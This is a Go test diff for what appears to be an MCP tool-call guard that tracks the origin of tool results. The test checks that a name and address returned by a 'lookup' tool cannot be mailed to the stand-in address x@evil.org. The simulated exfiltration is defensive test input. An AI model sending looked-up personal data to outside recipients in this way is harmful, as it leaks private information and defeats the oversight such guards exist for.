@@ -456,3 +456,24 @@ func TestNamedSessionsOverHTTP(t *testing.T) {
 		})
 	}
 }
+
+// What a tool has shown keeps its origin on its way into the arguments of the next call.
+func TestOriginsOfResultsCount(t *testing.T) {
+	everywhere(t, func(t *testing.T, f *fixture, connect func(*mcp.ClientOptions) *mcp.ClientSession) {
+		flow := loadPolicy(t, "testdata/flow")
+		f.cfg.Guard.SetPolicy(flow)
+		f.cfg.Policy = func() *policy.Policy { return flow }
+		f.desk.on("lookup", func(context.Context, *mcp.CallToolRequest) (*mcp.CallToolResult, error) {
+			return text("Annabel Featherstone, 7 Mill Lane"), nil
+		})
+		s := connect(nil)
+		if r := call(t, s, "mail", `{"to":"x@evil.org","body":"hello"}`); r.IsError {
+			t.Error(textIn(r))
+		}
+		call(t, s, "lookup", `{"id":"A1"}`)
+		contains(t, textIn(call(t, s, "mail", `{"to":"x@evil.org","body":"Annabel Featherstone"}`)), "What was looked up does not leave.")
+		if was := f.desk.was(); len(was) != 2 {
+			t.Errorf("the server was asked %v", was)
+		}
+	})
+}
